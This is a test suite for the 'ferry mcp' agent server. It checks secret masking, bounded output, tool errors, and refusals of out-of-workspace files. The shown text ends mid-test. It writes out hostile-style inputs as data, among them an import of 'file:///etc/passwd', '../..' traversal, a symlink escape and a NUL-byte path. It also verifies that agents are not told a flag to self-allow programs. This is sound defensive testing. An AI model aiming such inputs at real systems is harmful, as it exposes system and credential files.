/**
 * `ferry mcp` driven as an agent drives it: the real command (`bin/ferry.js mcp`, built) spawned
 * by the MCP SDK's stdio client, every tool against a temporary workspace, a node:http peer and
 * Ferry's own servers on 127.0.0.1. Every tool result is checked for the secret value (it must
 * read ***). Run `npm run build` first.
 */
import { spawn } from 'node:child_process';
import { existsSync, promises as fs } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { getDefaultEnvironment, StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WorkspaceData } from '../../src/appdata/index.js';
import { formatWarning, openWorkspace, type Warning } from '../../src/workspace/index.js';
import { ferry } from '../support/cli.js';
import { startGrpcPeer } from '../protocols/grpc-peer.js';

const repo = path.join(import.meta.dirname, '..', '..');
const bin = path.join(repo, 'bin', 'ferry.js');
const SECRET = 's3cr3t-Token-9f2b';
/** What the run tool returns at most before it falls back to the summary and the failures (docs/agents.md, Bounds). */
const LIMIT_REPORT_CHARS = 100_000;
const PET_SPEC = {
  openapi: '3.0.3',
  info: { title: 'Pets', version: '1' },
  paths: {
    '/pets/{id}': {
      get: {
        parameters: [{ name: 'id', in: 'path', required: true, schema: { type: 'integer' } }],
        responses: { '200': { description: 'a pet', content: { 'application/json': { schema: { type: 'object', required: ['name'], properties: { name: { type: 'string' } } } } } } },
      },
    },
  },
};

let peer: http.Server;
let baseUrl = '';
let root = '';
let dataDir = '';
let outside = '';
let client: Client;
let stderr = '';
/** Requests to /hang whose connection the client closed. */
let hangsClosed = 0;

/** Answers what it was sent (headers and body echoed back, so a secret sent comes back), and a few fixed bodies. */
function startPeer(): Promise<void> {
  peer = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const url = req.url ?? '/';
      if (url === '/hang') {
        // Never answers: only a cancelled send ends it.
        res.on('close', () => hangsClosed++);
        return;
      }
      if (url === '/slow-collection.json') {
        // Answers after the client gave up on the import: a cancelled import must write nothing.
        const collection = { info: { name: 'Slow import', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' }, item: [{ name: 'Ping', request: { method: 'GET', url: 'http://127.0.0.1:1/' } }] };
        setTimeout(() => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(collection)), 2000);
        return;
      }
      if (url === '/openapi.json') {
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ ...PET_SPEC, info: { title: 'Downloaded pets', version: '1' } }));
      } else if (url.startsWith('/big')) {
        res.writeHead(200, { 'content-type': 'text/plain' }).end('x'.repeat(100_000));
      } else if (url.startsWith('/pets/')) {
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ id: 1, name: 5 }));
      } else if (url.startsWith('/binary')) {
        res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(Buffer.from([0xff, 0xfe, 0x00, 0x81, 0x82]));
      } else {
        res.writeHead(200, { 'content-type': 'application/json', 'x-echo-key': String(req.headers['x-api-key'] ?? '') })
          .end(JSON.stringify({ method: req.method, url, headers: req.headers, body: Buffer.concat(chunks).toString('utf8') }));
      }
    });
  });
  return new Promise((resolve) => peer.listen(0, '127.0.0.1', () => {
    baseUrl = `http://127.0.0.1:${(peer.address() as AddressInfo).port}`;
    resolve();
  }));
}

async function write(relative: string, value: unknown): Promise<void> {
  const file = path.join(root, relative);
  await fs.mkdir(path.dirname(file), { recursive: true });
  await fs.writeFile(file, typeof value === 'string' ? value : JSON.stringify(value, null, 2));
}

async function makeWorkspace(): Promise<void> {
  await write('ferry.yaml', { version: 1, name: 'Agent test', variables: [{ key: 'who', value: 'agent' }] });
  await write('environments/local.yaml', { name: 'Local', variables: [{ key: 'baseUrl', value: baseUrl }, { key: 'token', value: '', secret: true }] });
  await write('requests/Echo/_folder.yaml', { name: 'Echo', headers: [{ key: 'X-Folder', value: 'from-folder' }] });
  await write('requests/Echo/Get echo.yaml', {
    name: 'Get echo', url: '{{baseUrl}}/echo?who={{who}}', headers: [{ key: 'X-Api-Key', value: '{{token}}' }],
    scripts: { postResponse: "pm.test('status is 200', function () { pm.response.to.have.status(200); });\nconsole.log('key ' + pm.environment.get('token'));" },
  });
  await write('requests/Echo/Basic.yaml', { name: 'Basic', seq: 1, url: '{{baseUrl}}/echo', auth: { type: 'basic', username: 'ada', password: '{{token}}' } });
  await write('requests/Echo/Big.yaml', { name: 'Big', seq: 2, url: '{{baseUrl}}/big' });
  await write('requests/Echo/Binary.yaml', { name: 'Binary', seq: 3, url: '{{baseUrl}}/binary' });
  await write('requests/Pets/_folder.yaml', { name: 'Pets', openapi: { spec: 'specs/pets.json' } });
  await write('requests/Pets/Get pet.yaml', { name: 'Get pet', url: '{{baseUrl}}/pets/1', openapi: { operation: 'GET /pets/{id}' } });
  await write('specs/pets.json', PET_SPEC);
  await write('requests/Events.yaml', { name: 'Events', kind: 'sse', seq: 5, url: '{{eventsUrl}}/?user=Ada', settings: { stream: { event: 'greeting', timeoutMs: 5000 } } });
  await write('requests/Tool.yaml', { name: 'Tool', kind: 'mcp', seq: 6, url: 'node -e "process.exit(0)"', mcp: { transport: 'stdio', name: 'echo' } });
  await write('requests/Broken.yaml', 'name: [unclosed');
  await write('servers/mock.yaml', { name: 'Mock', port: 0, http: { routes: [{ name: 'Hello', method: 'GET', path: '/hello', body: '{"hello": "{{who}}"}' }] } });
  await write('servers/events.yaml', { name: 'Events', kind: 'sse', port: 0, sse: { intervalMs: 50, repeat: true, events: [{ event: 'greeting', data: 'Hello {{request.query.user}}' }] } });
  await write('collection.json', {
    info: { name: 'Imported', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
    item: [{ name: 'Ping', request: { method: 'GET', url: `${baseUrl}/echo` } }],
  });
  // The secret value lives in this computer's secret store, never in the workspace.
  process.env.FERRY_DATA_DIR = dataDir;
  const ws = await openWorkspace(root);
  await new WorkspaceData(ws.id, ws.root).secrets.set('local', 'token', SECRET);
  await new WorkspaceData(ws.id, ws.root).setActiveEnvironment('local');
}

interface Called {
  isError: boolean;
  text: string;
  json: any;
}

/** Calls a tool; every result, error or not, must keep the secret masked. */
async function call(name: string, args: Record<string, unknown> = {}): Promise<Called> {
  const result = await client.callTool({ name, arguments: args }, undefined, { timeout: 30_000 });
  const text = (result.content as Array<{ type: string; text: string }>).map((c) => c.text).join('\n');
  expect(text, `${name} leaked the secret`).not.toContain(SECRET);
  expect(text, `${name} leaked the secret in Base64`).not.toContain(Buffer.from(`ada:${SECRET}`).toString('base64'));
  let json: unknown;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { isError: result.isError === true, text, json };
}

beforeAll(async () => {
  if (!existsSync(path.join(repo, 'dist', 'cli', 'mcp.js'))) throw new Error('Build first: npm run build (the test spawns bin/ferry.js).');
  root = await fs.mkdtemp(path.join(os.tmpdir(), 'ferry-agent-ws-'));
  dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'ferry-agent-data-'));
  outside = await fs.mkdtemp(path.join(os.tmpdir(), 'ferry-agent-outside-'));
  await startPeer();
  await makeWorkspace();
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [bin, 'mcp', '-w', root],
    env: { ...getDefaultEnvironment(), FERRY_DATA_DIR: dataDir },
    stderr: 'pipe',
  });
  transport.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  client = new Client({ name: 'ferry-test', version: '1.0.0' });
  await client.connect(transport);
}, 60_000);

afterAll(async () => {
  await client?.close();
  await new Promise<void>((resolve) => (peer ? peer.close(() => resolve()) : resolve()));
  for (const dir of [root, dataDir, outside]) if (dir) await fs.rm(dir, { recursive: true, force: true });
});

describe('ferry mcp', () => {
  it('lists every tool with annotations that say which ones write', async () => {
    const { tools } = await client.listTools();
    const byName = new Map(tools.map((t) => [t.name, t]));
    expect([...byName.keys()].sort()).toEqual([
      'check_contract', 'describe_request', 'export_code', 'import', 'list_environments', 'list_requests',
      'list_servers', 'run', 'send_request', 'server_traffic', 'start_server', 'stop_server',
    ]);
    for (const name of ['list_requests', 'describe_request', 'export_code', 'list_environments', 'list_servers', 'server_traffic', 'check_contract']) {
      expect(byName.get(name)!.annotations?.readOnlyHint, name).toBe(true);
    }
    for (const name of ['send_request', 'run', 'import', 'start_server', 'stop_server']) {
      expect(byName.get(name)!.annotations?.readOnlyHint, name).toBe(false);
    }
    expect(byName.get('send_request')!.annotations?.destructiveHint).toBe(true);
    expect(byName.get('run')!.annotations?.destructiveHint).toBe(true);
    expect(byName.get('import')!.annotations?.destructiveHint).toBe(false);
    expect(byName.get('start_server')!.annotations?.destructiveHint).toBe(false);
    expect(byName.get('send_request')!.inputSchema.properties).toHaveProperty('maxBodyChars');
    expect(stderr).toContain('ferry mcp: serving Agent test');
  });

  it('list_requests gives the tree with kinds and methods, broken files, and filters', async () => {
    const all = await call('list_requests');
    expect(all.isError).toBe(false);
    const paths = all.json.requests.map((r: { path: string }) => r.path);
    expect(paths).toEqual(expect.arrayContaining(['Echo/Get echo.yaml', 'Pets/Get pet.yaml', 'Events.yaml', 'Tool.yaml', 'Broken.yaml']));
    expect(all.json.requests.find((r: { path: string }) => r.path === 'Events.yaml')).toMatchObject({ kind: 'sse', method: 'GET' });
    expect(all.json.requests.find((r: { path: string }) => r.path === 'Broken.yaml').broken).toMatch(/Broken\.yaml/);
    expect(all.json.folders.map((f: { path: string }) => f.path)).toEqual(['Echo', 'Pets']);
    const big = await call('list_requests', { filter: 'BIG' });
    expect(big.json.requests.map((r: { path: string }) => r.path)).toEqual(['Echo/Big.yaml']);
    expect((await call('list_requests', { kind: 'sse' })).json.requests.map((r: { path: string }) => r.path)).toEqual(['Events.yaml']);
    expect((await call('list_requests', { folder: 'Pets' })).json.requests.map((r: { path: string }) => r.path)).toEqual(['Pets/Get pet.yaml']);
    // A filter that names nothing is an error that says what there is, not an empty list.
    const badKind = await call('list_requests', { kind: 'pigeon' });
    expect(badKind.isError).toBe(true);
    expect(badKind.text).toMatch(/expected one of "http".*"sse".* at kind/);
    const noFolder = await call('list_requests', { folder: 'Nope' });
    expect(noFolder.isError).toBe(true);
    expect(noFolder.text).toMatch(/No folder "Nope" under requests\/.*Folders here: Echo, Pets/);
    expect((await call('list_requests', { folder: 'requests/pets/' })).json.requests.map((r: { path: string }) => r.path)).toEqual(['Pets/Get pet.yaml']);
  });

  it('describe_request shows the file and the prepared request with secrets masked, Basic credentials too', async () => {
    const echo = await call('describe_request', { path: 'Echo/Get echo' });
    expect(echo.isError).toBe(false);
    expect(echo.json.saved).toContain('{{token}}');
    expect(echo.json.environment).toBe('local');
    expect(echo.json.prepared.url).toBe(`${baseUrl}/echo?who=agent`);
    expect(echo.json.prepared.headers).toEqual(expect.arrayContaining([['X-Folder', 'from-folder'], ['X-Api-Key', '***']]));
    const basic = await call('describe_request', { path: 'Echo/Basic.yaml' });
    expect(basic.json.prepared.headers).toEqual(expect.arrayContaining([['Authorization', 'Basic ***']]));
    const kept = await call('describe_request', { path: 'Echo/Get echo.yaml', substitute: false });
    expect(kept.json.prepared.url).toBe('{{baseUrl}}/echo?who={{who}}');
    const sse = await call('describe_request', { path: 'Events.yaml', variables: { eventsUrl: 'http://127.0.0.1:9' } });
    expect(sse.json.prepared).toMatchObject({ kind: 'sse', url: 'http://127.0.0.1:9/?user=Ada', stream: { event: 'greeting', timeoutMs: 5000 } });
    expect(sse.json.prepared.headers.map(([name]: [string]) => name.toLowerCase())).toContain('accept');
    const tool = await call('describe_request', { path: 'Tool.yaml' });
    expect(tool.json.prepared.options).toMatchObject({ transport: 'stdio', name: 'echo' });
    // A placeholder nothing defines is sent as written: describe says which, so the agent can give it.
    const unresolved = await call('describe_request', { path: 'Echo/Get echo.yaml', variables: { who: '{{nobody}}' } });
    expect(unresolved.json.unresolved).toEqual(['nobody']);
    expect(unresolved.json.notes).toEqual(expect.arrayContaining([expect.stringMatching(/\{\{nobody\}\} has no value here.*variables.*list_environments/)]));
    expect(echo.json.unresolved).toBeUndefined();
    expect(kept.json.unresolved).toBeUndefined();
    const overridden = await call('describe_request', { path: 'Echo/Get echo.yaml', variables: { who: 'someone' } });
    expect(overridden.json.prepared.url).toBe(`${baseUrl}/echo?who=someone`);
  });

  it('variables take JSON numbers, booleans and null as their text, as --var key=value would give them', async () => {
    const url = async (who: unknown) => {
      const described = await call('describe_request', { path: 'Echo/Get echo.yaml', variables: { who } });
      expect(described.isError, described.text).toBe(false);
      return described.json.prepared.url;
    };
    expect(await url(42)).toBe(`${baseUrl}/echo?who=42`);
    expect(await url(-1.5)).toBe(`${baseUrl}/echo?who=-1.5`);
    expect(await url(true)).toBe(`${baseUrl}/echo?who=true`);
    expect(await url(false)).toBe(`${baseUrl}/echo?who=false`);
    expect(await url(null)).toBe(`${baseUrl}/echo?who=`);
    // The same in the tools that send and export, and in a server's templates.
    const sent = await call('send_request', { path: 'Echo/Get echo.yaml', variables: { who: 7 } });
    expect(sent.json).toMatchObject({ status: 200, url: `${baseUrl}/echo?who=7` });
    const exported = await call('export_code', { path: 'Echo/Get echo.yaml', lang: 'curl', variables: { who: 8 } });
    expect(exported.text).toContain('who=8');
    const mock = await call('start_server', { id: 'mock', variables: { who: 9 } });
    expect(mock.isError, mock.text).toBe(false);
    try {
      const hello = await fetch(`${mock.json.url}/hello`);
      expect(await hello.json()).toEqual({ hello: '9' });
    } finally {
      await call('stop_server', { id: 'mock' });
    }
    // An object or a list has no one text: refused, saying what to give instead.
    const nested = await call('describe_request', { path: 'Echo/Get echo.yaml', variables: { who: { a: 1 } } });
    expect(nested.isError).toBe(true);
    expect(nested.text).toMatch(/a variable is text, a number, true\/false or null; give an object or a list as JSON text.* at variables\.who/);
  });

  it('send_request sends a saved request: status, headers, body and tests, the echoed secret masked', async () => {
    const sent = await call('send_request', { path: 'Echo/Get echo.yaml' });
    expect(sent.isError).toBe(false);
    expect(sent.json).toMatchObject({ status: 200, passed: true, method: 'GET', url: `${baseUrl}/echo?who=agent` });
    expect(sent.json.tests).toEqual([{ name: 'status is 200', passed: true }]);
    expect(sent.json.timings.totalMs).toBeGreaterThanOrEqual(0);
    expect(sent.json.response.headers).toEqual(expect.arrayContaining([['x-echo-key', '***']]));
    const echoed = JSON.parse(sent.json.response.body.text);
    expect(echoed.headers['x-api-key']).toBe('***');
    expect(echoed.headers['x-folder']).toBe('from-folder');
    expect(sent.json.console).toEqual(['key ***']);
    const basic = await call('send_request', { path: 'Echo/Basic.yaml' });
    // The server echoed the Basic credential: Base64 of ada:<secret>, masked as a whole.
    expect(JSON.parse(basic.json.response.body.text).headers.authorization).toBe('Basic ***');
  });

  it("send_request gives a gRPC status as the reports write it, with the server's status message", async () => {
    const peer = await startGrpcPeer();
    try {
      await write('requests/gRPC/Missing.yaml', { name: 'Missing', kind: 'grpc', url: peer.url, method: 'ferry.test.Echo/Say', body: { type: 'json', text: '{"text": "x", "failWith": true}' } });
      const sent = await call('send_request', { path: 'gRPC/Missing.yaml' });
      expect(sent.json).toMatchObject({ status: 5, statusText: 'NOT_FOUND', statusLabel: '5 NOT_FOUND: no greeting for x', passed: false });
    } finally {
      await fs.rm(path.join(root, 'requests/gRPC'), { recursive: true, force: true });
      await peer.close();
    }
  });

  it('send_request keeps bodies bounded and says so; binary bodies are described', async () => {
    const big = await call('send_request', { path: 'Echo/Big.yaml' });
    expect(big.json.response.body.bytes).toBe(100_000);
    expect(big.json.response.body.cut).toBe(true);
    expect(big.json.response.body.text).toMatch(/… \[cut at 20000 of 100000 characters\]$/);
    expect(big.json.response.body.note).toMatch(/maxBodyChars/);
    expect(big.text.length).toBeLessThan(30_000);
    const small = await call('send_request', { path: 'Echo/Big.yaml', maxBodyChars: 10 });
    expect(small.json.response.body.text).toMatch(/^x{10}\n… \[cut/);
    const binary = await call('send_request', { path: 'Echo/Binary.yaml' });
    expect(binary.json.response.body).toMatchObject({ bytes: 5, binary: true });
  });

  it('send_request sends an inline request in a folder, with its inherited header, environment and variables', async () => {
    const sent = await call('send_request', {
      request: { name: 'Draft', method: 'POST', url: '{{baseUrl}}/echo?who={{who}}', body: { type: 'json', text: '{"key": "{{token}}"}' } },
      folder: 'Echo',
      variables: { who: 'inline' },
    });
    expect(sent.isError).toBe(false);
    const echoed = JSON.parse(sent.json.response.body.text);
    expect(echoed).toMatchObject({ method: 'POST', url: '/echo?who=inline', body: '{"key": "***"}' });
    expect(echoed.headers['x-folder']).toBe('from-folder');
    expect(sent.json.path).toBe('Echo/Draft.yaml');
    // Nothing was written for it.
    expect(existsSync(path.join(root, 'requests', 'Echo', 'Draft.yaml'))).toBe(false);
  });

  it('answers bad arguments with tool errors that say what to do', async () => {
    const unknown = await call('send_request', { path: 'Nope/Missing.yaml' });
    expect(unknown).toMatchObject({ isError: true });
    expect(unknown.text).toMatch(/No request or folder "Nope\/Missing\.yaml" under requests\//);
    const both = await call('send_request', { path: 'Echo/Big.yaml', request: { name: 'x' } });
    expect(both.isError).toBe(true);
    expect(both.text).toMatch(/either path .* or request/);
    const neither = await call('send_request', {});
    expect(neither.isError).toBe(true);
    const wrongType = await call('send_request', { path: 42 });
    expect(wrongType.isError).toBe(true);
    expect(wrongType.text).toMatch(/Invalid arguments for tool send_request/);
    expect(wrongType.text).toMatch(/path/);
    const badInline = await call('send_request', { request: { name: 'x', kind: 'pigeon' } });
    expect(badInline.isError).toBe(true);
    expect(badInline.text).toMatch(/The inline request is not valid: kind/);
    const noFolder = await call('send_request', { request: { name: 'x', url: 'http://127.0.0.1:1/' }, folder: '../..' });
    expect(noFolder.isError).toBe(true);
    expect(noFolder.text).toMatch(/without \. or \.\. parts/);
    // Messages tell the agent what it can do: its environment argument, not the command line's -e.
    const noHost = await call('send_request', { request: { name: 'No host', url: '{{apiHost}}/x' } });
    expect(noHost.json.error).toMatch(/the URL still holds \{\{apiHost\}\} where the host should be; define the variable or give an environment \(the environment argument/);
    expect(noHost.json.error).not.toMatch(/ -e\b/);
    const described = await call('describe_request', { path: 'Echo/Get echo.yaml', variables: { baseUrl: '{{apiHost}}' } });
    expect(described.isError).toBe(true);
    expect(described.text).toMatch(/the environment argument/);
    const exported = await call('export_code', { path: 'Echo/Get echo.yaml', lang: 'curl', variables: { baseUrl: '{{apiHost}}' } });
    expect(exported.text).toMatch(/the environment argument/);
    const outsideBody = await call('send_request', { request: { name: 'Upload', method: 'POST', url: '{{baseUrl}}/echo', body: { type: 'binary', file: path.join(outside, 'x.bin') } } });
    expect(outsideBody.json.error).toMatch(/lies outside the workspace folder\. Move it into the workspace, or ask the user to allow files outside it \(ferry config set filesOutsideWorkspace true\)\./);
    expect(outsideBody.json.error).not.toMatch(/--allow-files-outside/);
    const folder = await call('send_request', { path: 'Echo' });
    expect(folder.isError).toBe(true);
    expect(folder.text).toMatch(/folder, not one request/);
    const env = await call('send_request', { path: 'Echo/Big.yaml', environment: 'nowhere' });
    expect(env.isError).toBe(true);
    expect(env.text).toMatch(/nowhere/);
    const outsideDescribe = await call('describe_request', { path: '../ferry.yaml' });
    expect(outsideDescribe.isError).toBe(true);
    const broken = await call('send_request', { path: 'Broken.yaml' });
    expect(broken.json.error ?? broken.text).toMatch(/Broken\.yaml/);
    const tooLarge = await call('send_request', { path: 'Echo/Big.yaml', maxBodyChars: 10_000_000 });
    expect(tooLarge.isError).toBe(true);
    const noTool = await client.callTool({ name: 'delete_everything', arguments: {} });
    expect(noTool.isError).toBe(true);
    expect(JSON.stringify(noTool.content)).toMatch(/delete_everything not found/);
  });

  it('a send the client cancels ends its connection, and the next one works', async () => {
    const cancelled = await client.callTool({ name: 'send_request', arguments: { request: { name: 'Hang', url: `${baseUrl}/hang` } } }, undefined, { timeout: 1500 }).catch((error: Error) => error);
    expect(String(cancelled)).toMatch(/timed out/i);
    const deadline = Date.now() + 10_000;
    while (hangsClosed === 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
    expect(hangsClosed).toBe(1);
    expect((await call('send_request', { path: 'Echo/Binary.yaml' })).json.status).toBe(200);
  });

  it('starts no program that was not allowed on this computer', async () => {
    const sent = await call('send_request', { path: 'Tool.yaml' });
    expect(sent.isError).toBe(false);
    expect(sent.json.passed).toBe(false);
    expect(sent.json.error).toMatch(/is not allowed to start on this computer/);
    expect(sent.json.note).toMatch(/ferry programs allow/);
    // The agent is not told of a flag that would let it allow the program itself (it has a shell).
    expect(sent.json.error).not.toMatch(/--allow-programs/);
    expect(sent.json.error).toMatch(/ask the user .*ferry programs allow/i);
  });

  it('run runs a folder and returns the JSON report, also as the resource ferry://run/last', async () => {
    const before = await client.readResource({ uri: 'ferry://run/last' }).catch((error: Error) => error);
    expect(String(before)).toMatch(/No run yet in this session/);
    const ran = await call('run', { paths: ['Echo'] });
    expect(ran.isError).toBe(false);
    expect(ran.json.version).toBe(1);
    expect(ran.json.summary).toMatchObject({ requests: 4, failedRequests: 0, environment: 'Local' });
    expect(ran.json.results.map((r: { path: string }) => r.path)).toEqual(['Echo/Get echo.yaml', 'Echo/Basic.yaml', 'Echo/Big.yaml', 'Echo/Binary.yaml']);
    expect(ran.json.results[0].console).toEqual(['key ***']);
    const resource = await client.readResource({ uri: 'ferry://run/last' });
    const report = JSON.parse((resource.contents[0] as { text: string }).text);
    expect(report.summary.requests).toBe(4);
    expect((resource.contents[0] as { text: string }).text).not.toContain(SECRET);
    const unknown = await call('run', { paths: ['Nowhere'] });
    expect(unknown.isError).toBe(true);
    expect(unknown.text).toMatch(/No request or folder "Nowhere"/);
    const program = await call('run', { paths: ['Tool.yaml'] });
    expect(program.json.results[0].error).toMatch(/is not allowed to start on this computer.*ask the user/i);
    expect(program.text).not.toMatch(/--allow-programs/);
  });

  it('keeps test messages, test names and console lines bounded, in a send and in a run report cut to its failures', async () => {
    const huge = "pm.test('t'.repeat(5000), function () { throw new Error('e'.repeat(300000)); }); console.log('c'.repeat(300000));";
    const sent = await call('send_request', { request: { name: 'Huge', url: '{{baseUrl}}/echo', scripts: { postResponse: huge } } });
    expect(sent.text.length).toBeLessThan(40_000);
    expect(sent.json.tests[0].message).toMatch(/^(Error: )?e+\n… \[cut at 2000 of 3000\d\d characters\]$/);
    expect(sent.json.tests[0].name).toMatch(/\[cut at 2000 of 5000 characters\]$/);
    expect(sent.json.console[0]).toMatch(/\[cut at 2000 of \d+ characters\]$/);
    // A run bounds each test's message at 10,000 characters (runner/result-limits.ts): fifteen of
    // them make a report past the tool's 100,000, which is cut to the summary and the failures.
    const many = "for (let i = 0; i < 15; i++) pm.test('t' + i, function () { throw new Error('e'.repeat(300000)); });";
    await write('requests/Huge.yaml', { name: 'Huge', url: '{{baseUrl}}/echo', scripts: { postResponse: many } });
    try {
      const ran = await call('run', { paths: ['Huge.yaml'] });
      expect(ran.text.length).toBeLessThan(LIMIT_REPORT_CHARS);
      expect(ran.json.note).toMatch(/ferry:\/\/run\/last/);
      expect(ran.json.failed[0].tests[0].message).toMatch(/\[cut at 2000 of 10\d\d\d characters\]$/);
    } finally {
      await fs.rm(path.join(root, 'requests', 'Huge.yaml'));
    }
  });

  it('run reports progress (done of total) to a client that asks for it, so a long run keeps its timeout alive', async () => {
    const progress: Array<{ progress: number; total?: number; message?: string }> = [];
    const result = await client.callTool({ name: 'run', arguments: { paths: ['Echo'], iterations: 2 } }, undefined, {
      timeout: 30_000,
      resetTimeoutOnProgress: true,
      onprogress: (p) => void progress.push(p),
    });
    expect(result.isError).toBeFalsy();
    // The SDK's client handles a notification a microtask late and forgets the token when the
    // answer comes: the last one (8 of 8), written just before the answer, may be dropped there.
    expect(progress.length, JSON.stringify(progress)).toBeGreaterThanOrEqual(1);
    expect(progress[0]).toMatchObject({ progress: 1, total: 8 });
    expect(progress[0]!.message).toMatch(/^1 of 8: Echo\/Get echo\.yaml passed$/);
    for (let i = 1; i < progress.length; i++) {
      expect(progress[i]!.progress).toBeGreaterThan(progress[i - 1]!.progress);
      expect(progress[i]).toMatchObject({ total: 8, message: expect.stringMatching(new RegExp(`^${progress[i]!.progress} of 8: Echo/`)) });
    }
    expect(JSON.stringify(progress)).not.toContain(SECRET);
  });

  it('import takes text, a file inside the workspace and a URL, and refuses files outside it', async () => {
    const curl = await call('import', { text: `curl -X POST ${baseUrl}/echo -H 'Content-Type: application/json' -d '{"a":1}'`, into: 'Echo', name: 'From curl' });
    expect(curl.isError).toBe(false);
    expect(curl.json).toMatchObject({ kind: 'curl', requests: 1 });
    expect(existsSync(path.join(root, 'requests', 'Echo', 'From curl.yaml'))).toBe(true);
    const file = await call('import', { path: 'collection.json' });
    expect(file.json).toMatchObject({ kind: 'postman', name: 'Imported', requests: 1 });
    const spec = await call('import', { url: `${baseUrl}/openapi.json` });
    expect(spec.isError).toBe(false);
    expect(spec.json).toMatchObject({ kind: 'openapi', name: 'Downloaded pets', requests: 1 });
    expect(spec.json.written).toEqual(expect.arrayContaining(['requests/Downloaded pets']));
    const unknownFormat = await call('import', { url: `${baseUrl}/echo` });
    expect(unknownFormat.isError).toBe(true); // JSON, but no collection or document
    expect(unknownFormat.text).toMatch(/Supported|recogni/i);
    const outsideFile = path.join(outside, 'collection.json');
    await fs.copyFile(path.join(root, 'collection.json'), outsideFile);
    const refused = await call('import', { path: outsideFile });
    expect(refused.isError).toBe(true);
    expect(refused.text).toMatch(/lies outside the workspace folder/);
    const dotdot = await call('import', { path: `../${path.basename(outside)}/collection.json` });
    expect(dotdot.isError).toBe(true);
    expect(dotdot.text).toMatch(/lies outside the workspace folder/);
    await fs.symlink(outsideFile, path.join(root, 'linked.json'));
    const linked = await call('import', { path: 'linked.json' });
    expect(linked.isError).toBe(true);
    expect(linked.text).toMatch(/symbolic link/);
    await fs.rm(path.join(root, 'linked.json'));
    // A NUL names no file: said in the tool's words, not Node's (which named this computer's path).
    const nul = await call('import', { path: 'collection.json\u0000.txt' });
    expect(nul.isError).toBe(true);
    expect(nul.text).toMatch(/is not a file name: it holds a control character/);
    expect(nul.text).not.toContain(root);
    const two = await call('import', { text: 'curl http://127.0.0.1:1/', url: 'http://127.0.0.1:1/' });
    expect(two.isError).toBe(true);
    expect(two.text).toMatch(/exactly one of path/);
    // Spec 7, 8.1: inline text over 50 MB is refused in every import refusal's words; 12 MB is
    // imported (a message over the MCP SDK's 10 MB closed the connection).
    const envText = (pad: number) => JSON.stringify({ name: 'Inline', values: [{ key: 'pad', value: 'x'.repeat(pad) }], _postman_variable_scope: 'environment' });
    const frame = envText(0).length;
    const over = await call('import', { text: envText(50 * 1024 * 1024 - frame + 1) });
    expect(over.isError).toBe(true);
    expect(over.text).toBe('The text given is 52,428,801 bytes; imports are limited to 50 MB. Split it, or import a smaller export.');
    const twelve = await call('import', { text: envText(12 * 1024 * 1024) });
    expect(twelve.json).toMatchObject({ kind: 'environment', name: 'Inline', environments: 1 });
    expect((await fs.stat(path.join(root, 'environments', 'Inline.yaml'))).size).toBeGreaterThan(12 * 1024 * 1024);
    await fs.rm(path.join(root, 'environments', 'Inline.yaml')); // the later tests list the environments
    // Spec 7: a document that does not say where the API runs; the agent gives the URL as baseUrl.
    const hostless = JSON.stringify({ openapi: '3.0.3', info: { title: 'Nowhere', version: '1' }, paths: { '/items': { get: { summary: 'List items', responses: { 200: { description: 'ok' } } } } } });
    const noHost = await call('import', { text: hostless });
    expect(noHost.isError).toBe(true);
    expect(noHost.text).toBe('The document does not say where the API runs; give its base URL and import again (give it as baseUrl).');
    expect(existsSync(path.join(root, 'requests', 'Nowhere'))).toBe(false);
    const withBase = await call('import', { text: hostless, baseUrl: 'http://127.0.0.1:4010' });
    expect(withBase.json).toMatchObject({ kind: 'openapi', name: 'Nowhere', requests: 1 });
    const noInto = await call('import', { text: 'curl http://127.0.0.1:1/', into: 'New/Sub' });
    expect(noInto.isError).toBe(true);
    expect(noInto.text).toMatch(/No folder "New\/Sub" under requests\/.*Folders here: .*Echo.*leave out into/);
    expect(noInto.text).not.toMatch(/--into/);
    const cancelled = await client.callTool({ name: 'import', arguments: { url: `${baseUrl}/slow-collection.json` } }, undefined, { timeout: 800 }).catch((error: Error) => error);
    expect(String(cancelled)).toMatch(/timed out/i);
    await new Promise((resolve) => setTimeout(resolve, 3500));
    expect(existsSync(path.join(root, 'requests', 'Slow import'))).toBe(false);
    const notUrl = await call('import', { url: 'file:///etc/passwd' });
    expect(notUrl.isError).toBe(true);
    expect(notUrl.text).toMatch(/http:\/\/ or https:\/\//);
  });

  it('export_code gives the request as code with secrets masked, and the languages', async () => {
    const curl = await call('export_code', { path: 'Echo/Get echo.yaml', lang: 'curl' });
    expect(curl.isError).toBe(false);
    expect(curl.json.code).toContain(`${baseUrl}/echo?who=agent`);
    expect(curl.json.code).toContain('X-Api-Key: ***');
    const python = await call('export_code', { path: 'Echo/Basic.yaml', lang: 'python' });
    expect(python.isError).toBe(false);
    const list = await call('export_code', {});
    expect(list.json.languages.map((l: { lang: string }) => l.lang)).toContain('rust');
    const sse = await call('export_code', { path: 'Events.yaml', lang: 'curl' });
    expect(sse.isError).toBe(true);
    expect(sse.text).toMatch(/only HTTP requests can be exported as code/);
    const badLang = await call('export_code', { path: 'Echo/Get echo.yaml', lang: 'cobol' });
    expect(badLang.isError).toBe(true);
    expect(badLang.text).toMatch(/cobol/);
  });

  it('list_environments shows variables, a secret as *** only', async () => {
    const envs = await call('list_environments');
    expect(envs.json.active).toBe('local');
    const local = envs.json.environments.find((e: { id: string }) => e.id === 'local');
    expect(local.variables).toEqual([
      { key: 'baseUrl', value: baseUrl, enabled: true },
      { key: 'token', value: '***', enabled: true, secret: true, stored: true },
    ]);
